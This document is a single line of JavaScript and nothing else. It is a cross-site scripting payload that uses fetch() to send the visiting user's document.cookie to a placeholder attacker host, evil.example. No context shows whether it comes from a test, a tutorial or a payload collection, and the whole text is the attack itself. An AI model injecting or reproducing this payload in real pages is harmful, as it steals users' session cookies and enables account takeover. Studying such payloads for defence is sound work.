fetch('https://evil.example/?' + document.cookie);
